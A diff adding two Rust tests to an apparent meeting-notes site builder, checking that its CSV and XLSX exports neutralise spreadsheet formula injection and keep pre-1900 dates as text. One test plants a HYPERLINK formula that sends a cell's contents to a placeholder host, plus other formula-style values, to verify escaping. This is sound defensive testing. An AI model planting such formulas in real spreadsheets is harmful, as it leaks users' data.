@@ -544,3 +544,65 @@ fn a_meeting_time_goes_into_the_calendar_and_beside_the_date() {
         );
     }
 }
+
+#[test]
+fn tracker_cells_a_spreadsheet_would_run_are_text_in_csv_and_in_the_workbook() {
+    let (_tmp, content) = temp_copy(&example_content());
+    let file = content.join("meetings/2021-05-26.md");
+    let formula = r#"=HYPERLINK("http://x.example/?"&A1,"Click")"#;
+    let text = read(&file).replacen(
+        "owner: {en: CBSA, fr: ASFC}",
+        &format!("owner: {{en: '{formula}', fr: '@SUM(A1)'}}"),
+        1,
+    );
+    let text = text.replacen("en: Report on the port-of-entry pilot.", "en: \"-2+3 report\"", 1);
+    fs::write(&file, text).unwrap();
+    let out = content.parent().unwrap().join("out");
+    build_ok(&content, &out);
+    let csv = csv_rows(&out.join("data/actions.csv"));
+    let row = csv.iter().find(|r| r[0] == "A-2021-05-01").expect("the action");
+    assert_eq!(row[1..3], ["'-2+3 report".to_string(), format!("'{formula}")]);
+    let fr = csv_rows(&out.join("fr/data/actions.csv"));
+    assert_eq!(fr.iter().find(|r| r[0] == "A-2021-05-01").unwrap()[2], "'@SUM(A1)");
+    // The workbook holds them as strings, as written.
+    let mut book: Xlsx<_> = calamine::open_workbook(out.join("data/actions.xlsx")).unwrap();
+    let sheet = book.sheet_names()[0].clone();
+    let range = book.worksheet_range(&sheet).unwrap();
+    let x = range.rows().find(|r| r[0] == Data::String("A-2021-05-01".into())).unwrap();
+    assert_eq!(x[2], Data::String(formula.into()));
+    // Figures stay numbers in the metrics' value column.
+    let metrics = csv_rows(&out.join("data/metrics.csv"));
+    assert!(metrics[1..].iter().all(|r| r[6].parse::<f64>().is_ok()), "{metrics:?}");
+}
+
+#[test]
+fn an_action_due_before_1900_is_in_the_workbook_as_text_with_a_warning_of_its_own() {
+    let (_tmp, content) = temp_copy(&example_content());
+    let file = content.join("meetings/2021-05-26.md");
+    fs::write(&file, read(&file).replacen("due: 2021-09-30", "due: 1021-09-30", 1)).unwrap();
+    let diags = parse_diags(&stdout(&check_json(&content, &[])));
+    let distant: Vec<_> = diags.iter().filter(|d| d.code == "distant-date").collect();
+    assert_eq!(distant.len(), 1, "{diags:?}");
+    assert_eq!(distant[0].file, "meetings/2021-05-26.md");
+    assert!(distant[0].hint.as_deref().unwrap_or("").contains("did you mean 2021-09-30?"), "{distant:?}");
+    let out = content.parent().unwrap().join("out");
+    build_ok(&content, &out);
+    for lang in ["", "fr/"] {
+        let mut book: Xlsx<_> =
+            calamine::open_workbook(out.join(format!("{lang}data/actions.xlsx"))).unwrap();
+        let sheet = book.sheet_names()[0].clone();
+        let range = book.worksheet_range(&sheet).unwrap();
+        let row = range.rows().find(|r| r[0] == Data::String("A-2021-05-01".into())).unwrap();
+        assert_eq!(row[4], Data::String("1021-09-30".into()), "{lang}: the date as text");
+        assert!(matches!(row[6], Data::DateTime(_)), "{lang}: other dates stay dates");
+    }
+    // No page links a table file that is not there.
+    for page in html_pages(&out) {
+        let dir = out.join(&page).parent().unwrap().to_path_buf();
+        for target in link_targets(&read(&out.join(&page))) {
+            if target.ends_with(".xlsx") || target.ends_with(".csv") {
+                assert!(dir.join(&target).is_file(), "{page} links {target}, which is not there");
+            }
+        }
+    }
+}
